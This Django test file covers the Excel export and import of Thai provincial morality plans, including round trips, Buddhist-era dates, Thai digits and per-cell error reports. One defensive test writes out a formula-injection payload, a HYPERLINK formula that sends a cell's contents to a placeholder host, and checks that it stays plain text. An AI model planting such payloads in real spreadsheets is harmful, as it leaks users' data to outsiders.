import datetime as dt
import io

from django.utils import translation
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from moralprovince.plans import excel, services
from moralprovince.plans.excel_import import apply_import, read_workbook
from moralprovince.plans.models import Activity, BudgetLine, Goal, Plan
from moralprovince.plans.tests.base import PlanTestCase


def upload(book) -> io.BytesIO:
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    buffer.name = "plan.xlsx"
    return buffer


class ExcelTestCase(PlanTestCase):
    def exported(self):
        content = excel.export_workbook([self.plan], "สุราษฎร์ธานี", 2564)
        return load_workbook(io.BytesIO(content))

    def sheet(self, book) -> Worksheet:
        return book[excel.sheet_title(self.plan)]

    def column(self, key: str) -> int:
        return [c.key for c in excel.COLUMNS].index(key) + 1

    def read(self, book, user=None):
        # Messages are checked in English; the Thai ones are checked on the pages.
        with translation.override("en"):
            return read_workbook(
                upload(book), actor=user or self.admin, province_id="84", fiscal_year=2564
            )

    def counts(self):
        return (
            Plan.objects.count(),
            Goal.objects.count(),
            Activity.objects.count(),
            BudgetLine.objects.count(),
        )


class RoundTripTests(ExcelTestCase):
    def test_export_then_import_gives_back_the_same_plan(self):
        before = excel.plan_rows(self.plan)
        book = self.exported()
        Plan.objects.all().delete()
        result = self.read(book)
        self.assertTrue(result.ok, [str(p) for p in result.problems])
        [plan] = apply_import(
            actor=self.admin, province=self.surat, fiscal_year=2564, result=result
        )
        self.assertEqual(plan.network, self.education)
        self.assertEqual(plan.title, self.plan.title)
        self.assertEqual(excel.plan_rows(plan), before)

    def test_a_title_that_looks_like_a_formula_stays_text_both_ways(self):
        formula = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'
        Activity.objects.filter(pk=self.training.pk).update(title=formula)
        Plan.objects.filter(pk=self.plan.pk).update(title="+SUM(1,2)")
        self.plan.refresh_from_db()
        book = self.exported()
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        self.assertEqual([c.coordinate for c in cells if c.data_type == "f"], [])
        self.assertIn(formula, [c.value for c in cells])
        before = excel.plan_rows(self.plan)
        Plan.objects.all().delete()
        result = self.read(book)
        self.assertTrue(result.ok, [str(p) for p in result.problems])
        [plan] = apply_import(
            actor=self.admin, province=self.surat, fiscal_year=2564, result=result
        )
        self.assertEqual(excel.plan_rows(plan), before)

    def test_importing_the_unchanged_export_changes_nothing(self):
        from moralprovince.audit.models import AuditEntry

        result = self.read(self.exported())
        logged = AuditEntry.objects.count()
        apply_import(actor=self.admin, province=self.surat, fiscal_year=2564, result=result)
        self.assertEqual(AuditEntry.objects.count(), logged)

    def test_an_edited_workbook_updates_the_plan_by_activity_number(self):
        book = self.exported()
        ws = self.sheet(book)
        ws.cell(excel.HEADER_ROW + 1, self.column("title")).value = "อบรมครูแกนนำ รุ่นที่ 1"
        for row in range(excel.HEADER_ROW + 1, ws.max_row + 1):
            if ws.cell(row, self.column("no")).value == 1:
                ws.cell(row, self.column("title")).value = "อบรมครูแกนนำ รุ่นที่ 1"
        apply_import(
            actor=self.admin, province=self.surat, fiscal_year=2564, result=self.read(book)
        )
        self.training.refresh_from_db()
        self.assertEqual(self.training.title, "อบรมครูแกนนำ รุ่นที่ 1")
        self.assertEqual(self.plan.activities.count(), 2)

    def test_the_summary_sheet_has_totals_by_funding_source(self):
        summary = self.exported()[excel.SUMMARY_SHEET]
        values = {row[0]: row[1] for row in summary.iter_rows(values_only=True) if row and row[0]}
        self.assertEqual(values["ศูนย์คุณธรรม"], 90000)
        self.assertEqual(values["ปีงบประมาณ"], 2564)

    def test_headers_are_thai_and_dates_are_buddhist_era(self):
        ws = self.sheet(self.exported())
        self.assertEqual(ws.cell(excel.HEADER_ROW, self.column("start")).value, "วันเริ่ม")
        self.assertEqual(ws.cell(excel.HEADER_ROW + 1, self.column("start")).value, "23/11/2563")


class ReadingTests(ExcelTestCase):
    def test_dates_in_either_era_date_cells_and_thai_digits_are_read(self):
        book = self.exported()
        ws = self.sheet(book)
        first = excel.HEADER_ROW + 1
        ws.cell(first, self.column("start")).value = "23/11/2020"
        ws.cell(first, self.column("end")).value = dt.datetime(2020, 11, 25)
        ws.cell(first, self.column("participants")).value = "๑๒๐"
        ws.cell(first, self.column("amount")).value = "๙๐,๐๐๐"
        result = self.read(book)
        self.assertTrue(result.ok, [str(p) for p in result.problems])
        activity = result.plans[0].activities[1]
        self.assertEqual(
            (activity["start"], activity["end"]), (dt.date(2020, 11, 23), dt.date(2020, 11, 25))
        )
        self.assertEqual(activity["expected_participants"], 120)

    def test_an_extra_column_is_set_aside_with_a_notice(self):
        book = self.exported()
        ws = self.sheet(book)
        ws.cell(excel.HEADER_ROW, len(excel.COLUMNS) + 1).value = "หมายเหตุของจังหวัด"
        result = self.read(book)
        self.assertTrue(result.ok)
        self.assertIn("หมายเหตุของจังหวัด", result.notices[0])


class BadWorkbookTests(ExcelTestCase):
    def assert_problem(self, book, sheet, row, column, text, user=None):
        before = self.counts()
        result = self.read(book, user)
        self.assertFalse(result.ok)
        found = [(p.sheet, p.row, p.column) for p in result.problems if text in p.message]
        self.assertIn((sheet, row, column), found, [str(p) for p in result.problems])
        self.assertEqual(self.counts(), before)
        return result

    def test_a_missing_summary_sheet(self):
        book = self.exported()
        del book[excel.SUMMARY_SHEET]
        self.assert_problem(book, excel.SUMMARY_SHEET, None, "", excel.SUMMARY_SHEET)

    def test_a_missing_column(self):
        book = self.exported()
        ws = self.sheet(book)
        ws.delete_cols(self.column("responsible"))
        self.assert_problem(book, ws.title, excel.HEADER_ROW, "", "หน่วยงานรับผิดชอบ")

    def test_merged_cells_in_the_table(self):
        book = self.exported()
        ws = self.sheet(book)
        ws.merge_cells(start_row=8, start_column=1, end_row=9, end_column=1)
        self.assert_problem(book, ws.title, 8, "A", "A8:A9")

    def test_bad_cells_are_each_reported_by_row_and_column(self):
        book = self.exported()
        ws = self.sheet(book)
        first = excel.HEADER_ROW + 1
        ws.cell(first, self.column("start")).value = "1/10/2564"
        ws.cell(first, self.column("amount")).value = "-5"
        ws.cell(first + 1, self.column("amount")).value = "ห้าพัน"
        ws.cell(first + 2, self.column("virtues")).value = "กตัญญู"
        ws.cell(first + 2, self.column("responsible")).value = "โรงเรียนบ้านรอบเวียง"
        letter = lambda key: ws.cell(1, self.column(key)).column_letter  # noqa: E731
        result = self.assert_problem(book, ws.title, first, letter("start"), "2564")
        places = {(p.row, p.column) for p in result.problems}
        self.assertLessEqual(
            {
                (first, letter("amount")),
                (first + 1, letter("amount")),
                (first + 2, letter("virtues")),
                (first + 2, letter("responsible")),
            },
            places,
        )

    def test_an_approved_plan_must_be_opened_for_revision_first(self):
        services.submit_plan(actor=self.coordinator, plan=self.plan)
        services.approve_plan(actor=self.admin, plan=self.plan)
        book = self.exported()
        self.sheet(book)["B1"] = "แผนที่ปรับแล้ว"
        self.assert_problem(book, excel.sheet_title(self.plan), 1, "B", "revision")

    def test_a_coordinator_cannot_import_another_networks_plan(self):
        book = self.exported()
        self.sheet(book)["B3"] = "เครือข่ายศาสนา"
        self.assert_problem(book, excel.sheet_title(self.plan), 3, "B", "", user=self.coordinator)

    def test_a_file_that_is_not_a_workbook(self):
        result = read_workbook(
            io.BytesIO(b"not a zip"), actor=self.admin, province_id="84", fiscal_year=2564
        )
        self.assertFalse(result.ok)
        self.assertEqual(len(result.problems), 1)
